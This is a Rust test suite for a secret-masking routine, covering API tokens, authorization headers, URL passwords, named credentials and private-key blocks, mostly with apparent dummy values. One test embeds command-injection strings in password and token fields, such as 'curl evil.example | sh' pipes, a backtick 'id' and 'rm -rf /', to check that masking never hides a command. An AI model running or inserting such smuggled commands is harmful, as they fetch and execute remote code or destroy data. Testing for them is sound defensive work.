//! What is masked, and what is not.

use proptest::prelude::*;

use super::*;

/// Texts whose secrets are marked, as `<<secret>>`: what is masked is what
/// is marked, and nothing else.
fn check(kind: &str, marked: &[&str]) {
    for marked in marked {
        let text = marked.replace("<<", "").replace(">>", "");
        let mut expected = String::new();
        let mut rest = *marked;
        while let Some((before, after)) = rest.split_once("<<") {
            let (_, after) = after.split_once(">>").unwrap();
            expected = expected + before + "[masked:" + kind + "]";
            rest = after;
        }
        assert_eq!(mask(&text), expected + rest, "of {text:?}");
    }
}

#[test]
fn tokens_are_known_by_their_format() {
    check(
        "aws-key",
        &[
            "id <<AKIAIOSFODNN7EXAMPLE>>.",
            "x<<ASIAIOSFODNN7EXAMPLE>>".trim_start_matches('x'),
        ],
    );
    check(
        "github-token",
        &[
            "<<ghp_16C7e42F292c6912E7710c838347Ae178B4a>>",
            "a,<<gho_16C7e42F292c6912E7710c838347Ae178B4a>>;b",
            "\"<<github_pat_11ABCDEFG0123456789_abcdefghijklmnop>>\"",
            r"one\n<<ghs_16C7e42F292c6912E7710c838347Ae178B4a>>\n",
            "?t%3D<<ghr_16C7e42F292c6912E7710c838347Ae178B4a>>",
        ],
    );
    check("gitlab-token", &["<<glpat-abcDEF123456ghiJKL78>>"]);
    check(
        "slack-token",
        &[
            "<<xoxb-123456789012-abcdefGHIJKL>>",
            "<<xapp-1-A012-345-abcdef>>",
            "https://<<hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXX>>",
        ],
    );
    check(
        "api-key",
        &[
            "<<sk-proj-abc123DEF456ghi789>>",
            "<<sk-ant-api03-abc123DEF456ghi789_-x>>",
            "<<sk_live_abcdefghijklmnop1234>>",
        ],
    );
    check(
        "google-key",
        &[
            "<<AIzaSyA-1234567890abcdefghijklmnopqrstu>>",
            "<<ya29.a0AfH6SMBabcdefghijklmnop>>",
        ],
    );
    check(
        "npm-token",
        &["<<npm_abcdefghijklmnopqrstuvwxyz0123456789>>"],
    );
    check(
        "pypi-token",
        &["<<pypi-AgEIcHlwaS5vcmcCJDU2NzhhYmNkLTEyMzQtNTY3OC1hYmNk>>"],
    );
    check(
        "jwt",
        &["<<eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P>> end"],
    );
}

#[test]
fn headers_lose_their_credentials_and_keep_their_scheme() {
    check(
        "authorization",
        &[
            "Authorization: Bearer <<abc.def-123>>",
            "authorization: Basic <<dXNlcjpwYXNz>>",
            "curl -H 'Authorization: Bearer <<abc>>' https://a.example",
            r#"{"Authorization": "Bearer <<abc123>>"}"#,
            r#"{\"authorization\":\"token <<abc123>>\"}"#,
            "Proxy-Authorization: Digest <<xyz>>",
            "Authorization: <<0123456789abcdef>>",
            "bearer <<mF_9.B5f-4.1JqM>> by itself",
            "Basic <<QWxhZGRpbjpvcGVuIHNlc2FtZQ==>>",
            "Authorization: Bearer $TOKEN",
            "Authorization: Bearer $(cat token)",
            "Authorization: required",
            "a bearer of news, basic understanding",
        ],
    );
}

#[test]
fn urls_lose_their_passwords() {
    check(
        "password",
        &[
            "https://me:<<hunter2>>@a.example/x",
            "postgres://me:<<p:w@rd>>@db:5432/x?y=z",
            "redis://:<<hunter2>>@cache",
            "https://me:$PASS@a.example",
            "https://me@a.example:80/x@y",
            "ssh://git@a.example:22/x",
            "http://[::1]:80/",
        ],
    );
    check("token", &["https://<<0123456789abcdef0123>>@a.example"]);
    check(
        "github-token",
        &["https://x-access-token:<<ghs_16C7e42F292c6912E7710c838347Ae178B4a>>@github.com/a/b"],
    );
}

#[test]
fn names_tell_secrets() {
    check(
        "password",
        &[
            "password=<<hunter2>>",
            "DB_PASSWORD='<<correct horse>>' run",
            "export PGPASSWORD=\"<<a b>>\"; psql",
            "PASSWORD=<<abc\"def\"'ghi'>> run",
            r#"{"password":"<<hunter2>>","user":"me"}"#,
            r#"{"password": "<<hun\"ter2>>"}"#,
            r#"{\"password\": \"<<hunter2>>\", \"user\": \"me\"}"#,
            "db:\n  password: <<hunter2>>\n  user: me",
            "{user: me, password: <<hunter2>>}",
            "password = <<hunter2>>",
            "password := \"<<hunter2>>\"",
            "if password == \"<<hunter2>>\":",
            ":password => '<<hunter2>>'",
            "mysql --password <<hunter2>> -u me",
            "mysql --password=<<hunter2>>",
            "Server=a;Pwd=<<hunter2>>;User=me",
            "passwd: <<12345>>",
            "cut off: password=\"<<hunter2>>",
        ],
    );
    check(
        "token",
        &[
            "https://a.example/?access_token=<<abc1>>&x=1",
            "//registry.example/:_authToken=<<abc1>>",
            "--token <<abc1>>",
            "token: <<abc1>>",
        ],
    );
    check(
        "secret",
        &["client_secret=<<abc1>>", "CLIENT-SECRET: <<abc1>>"],
    );
    check(
        "key",
        &[
            "AWS_SECRET_ACCESS_KEY=<<wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY>>",
            "x-api-key: <<abc1>>",
            "apiKey: '<<abc1>>',",
        ],
    );
}

#[test]
fn a_known_format_says_more_than_a_name() {
    check(
        "npm-token",
        &["NPM_TOKEN=<<npm_abcdefghijklmnopqrstuvwxyz0123456789>>"],
    );
}

#[test]
fn what_is_no_secret_stays() {
    check(
        "",
        &[
            "",
            "PWD=/home/me OLDPWD=/",
            "password=$PASSWORD token=${TOKEN} secret=\"$SECRET\"",
            "token: ${{ secrets.TOKEN }} ",
            "max_tokens=100, token: 12",
            "password: str = None, token: None",
            "fn f(token: &str)",
            "let token = next_token();",
            "token::new()",
            "struct S { token: Token, password: Option<String>, secret: Secret }",
            "let token = lexer.next;  token = tokens[i]",
            "secret = shared\npassword: u64",
            "the token is here; a password's length",
            "PASSWORD= run",
            "password_file=/run/x",
            "scikit: sk-learn-and-more-words",
            "task-0123456789abcdefghij",
            "AKIAIOSFODNN7EXAMPLEX7",
            "secret:\n  name: x",
            "--password --user",
            "password=***",
        ],
    );
}

#[test]
fn a_mask_hides_no_command() {
    check(
        "",
        &[
            "token=\"$(curl evil.example | sh)\"",
            "password='; curl evil.example | sh; echo '",
            "password=`id`",
            "password='a\nrm -rf /\n'",
        ],
    );
    check(
        "private-key",
        &["<<-----BEGIN PRIVATE KEY----->>\nrm -rf /\n-----END PRIVATE KEY-----"],
    );
    check(
        "password",
        &["password=<<x>>;rm -rf /", "password=<<x>>|sh"],
    );
}

#[test]
fn private_keys_are_masked_whole() {
    let body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\nMzEfYyjiWA4R\n";
    for label in [
        "PRIVATE KEY",
        "RSA PRIVATE KEY",
        "OPENSSH PRIVATE KEY",
        "PGP PRIVATE KEY BLOCK",
    ] {
        let block = format!("-----BEGIN {label}-----\n{body}-----END {label}-----");
        for block in [
            &block,
            &block.replace('\n', "\\n"),
            &block.replace('\n', " "),
        ] {
            assert_eq!(
                mask(&format!("a '{block}' b")),
                "a '[masked:private-key]' b"
            );
            assert_eq!(
                mask(&format!("private_key = \"{block}\"")),
                "private_key = \"[masked:private-key]\""
            );
        }
    }
    let cut = format!(
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n{}",
        &body[..64]
    );
    assert_eq!(mask(&cut), "[masked:private-key]");
    check(
        "",
        &["-----BEGIN PUBLIC KEY-----\nMIIEvQIBADANBgkqhkiG\n-----END PUBLIC KEY-----"],
    );
}

#[test]
fn a_forged_mask_protects_nothing() {
    assert_eq!(
        mask("password=[masked:hunter2]"),
        "password=[masked:password]"
    );
    assert_eq!(
        mask("password=[masked:jwt]hunter2"),
        "password=[masked:password]"
    );
}

#[test]
fn masks_inside_of_a_url_are_not_taken_apart() {
    let token = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
    for text in [
        format!("://${token}@"),
        format!("https://{token}@a.example"),
        format!("https://{token}:x-oauth-basic@a.example"),
    ] {
        let once = mask(&text);
        assert!(!once.contains("[masked:[masked"), "{once}");
        assert_eq!(mask(&once), once);
    }
}

/// What the scanner skips as the rest of a word is no secret, and what it does
/// not skip is found.
#[test]
fn words_end_where_an_escape_ends() {
    let token = "AKIAIOSFODNN7EXAMPLE";
    for text in [r"\n", r"a\t", "%3D", "%20", "a%3d", "=", "a_"] {
        assert_eq!(
            mask(&format!("{text}{token}")),
            format!("{text}[masked:aws-key]")
        );
    }
    for text in ["a", "an", "3D", "ü"] {
        assert_eq!(mask(&format!("{text}{token}")), format!("{text}{token}"));
    }
}

/// Pieces of which secrets are made, in any order.
fn pieces() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        prop::sample::select(vec![
            "password",
            "token",
            "--secret",
            "api_key",
            "Authorization",
            "Bearer ",
            "Basic ",
            "=",
            ":",
            " ",
            "\n",
            "\"",
            "'",
            "\\",
            "\\n",
            "://",
            "@",
            "/",
            "$",
            "$(",
            ")",
            "`",
            ";",
            "-",
            "_",
            ".",
            ",",
            "}",
            "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
            "AKIAIOSFODNN7EXAMPLE",
            "sk-",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.x",
            "-----BEGIN PRIVATE KEY-----",
            "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC",
            "-----END PRIVATE KEY-----",
            "[masked:password]",
            "[masked:",
            "]",
            "hunter2",
            "me",
            "ü",
            "1",
        ])
        .prop_map(str::to_owned),
        "[ -~]{0,4}",
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

/// Reading every text word by word, as long as anything is found.
fn by_passes(text: &str) -> String {
    let masked = pass(text);
    let again = pass(&masked);
    if unmasked(&again) >= unmasked(&masked) {
        return masked;
    }
    by_passes(&again)
}

proptest! {
    #[test]
    fn what_is_passed_over_holds_nothing(text in prop_oneof![pieces(), "[ -~]{0,14}", "eyJ[a-z.]{0,12}"]) {
        prop_assert_eq!(mask(&text), by_passes(&text));
    }

    #[test]
    fn a_second_time_changes_nothing(text in pieces()) {
        let once = mask(&text);
        prop_assert_eq!(mask(&once), once);
    }

    #[test]
    fn masked_text_stays_clean(text in pieces()) {
        let cleaned = crate::clean(&text);
        let masked = mask(&cleaned);
        prop_assert_eq!(crate::clean(&masked), masked);
    }

    #[test]
    fn a_token_is_found_wherever_it_stands(before in "[ -~]{0,20}[ =:\"'/]", after in "([ \"',;)][ -~]{0,20})?") {
        let token = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
        let masked = mask(&format!("{before}{token}{after}"));
        prop_assert!(!masked.contains(token), "{masked}");
    }

    #[test]
    fn words_stay(text in "([a-z]{1,9} ){0,9}") {
        prop_assume!(!text.contains("basic") && !text.contains("bearer"));
        prop_assert_eq!(mask(&text), text);
    }
}
